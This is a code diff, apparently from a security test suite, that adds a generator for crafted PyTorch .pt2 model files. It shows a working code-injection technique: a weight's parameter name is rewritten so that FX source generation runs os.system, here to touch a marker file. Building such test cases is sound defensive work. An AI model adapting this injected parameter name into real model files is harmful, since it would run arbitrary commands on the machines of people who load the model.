@@ -182,6 +182,32 @@ def pt2_guard(source: Path, path: Path, marker: Path) -> Path:
     return edited_pt2(source, path, edit)
 
 
+def renamed(value: object, old: str, new: str) -> object:
+    """A JSON value with every string (keys too) equal to ``old`` replaced by ``new``."""
+    if isinstance(value, dict):
+        return {renamed(key, old, new): renamed(item, old, new) for key, item in value.items()}
+    if isinstance(value, list):
+        return [renamed(item, old, new) for item in value]
+    return new if value == old else value
+
+
+def pt2_parameter_name(source: Path, path: Path, marker: Path) -> Path:
+    """A weight whose name is code: FX writes a name part that is not an identifier into the generated source of
+    ExportedProgram.module() as ``getattr(self, "<part>")``, unescaped. (The name holds no dot, so ``marker``'s
+    path must not either.)"""
+    assert "." not in str(marker), "the payload is one part of a dotted name"
+    escape = f'x") if 0 else getattr(__import__("os"), "system")("touch {marker}") if 1 else getattr(self, "x'
+
+    def edit(records: dict[str, bytes]) -> None:
+        config = json.loads(records["data/weights/model_weights_config.json"])
+        old = next(iter(config["config"]))
+        new = f"{old.rsplit('.', 1)[0]}.{escape}"
+        for name in ("models/model.json", "data/weights/model_weights_config.json"):
+            records[name] = json.dumps(renamed(json.loads(records[name]), old, new)).encode()
+
+    return edited_pt2(source, path, edit)
+
+
 PT2_FILES: dict[str, Callable[[Path, Path, Path], Path]] = {
     "sample inputs": pt2_sample_inputs,
     "a pickled weight": pt2_pickled_weight,
@@ -189,6 +215,7 @@ PT2_FILES: dict[str, Callable[[Path, Path, Path], Path]] = {
     "an AOTInductor library": pt2_aotinductor,
     "a symbolic expression": pt2_symbolic_expression,
     "a guard": pt2_guard,
+    "a parameter name": pt2_parameter_name,
 }
 
 
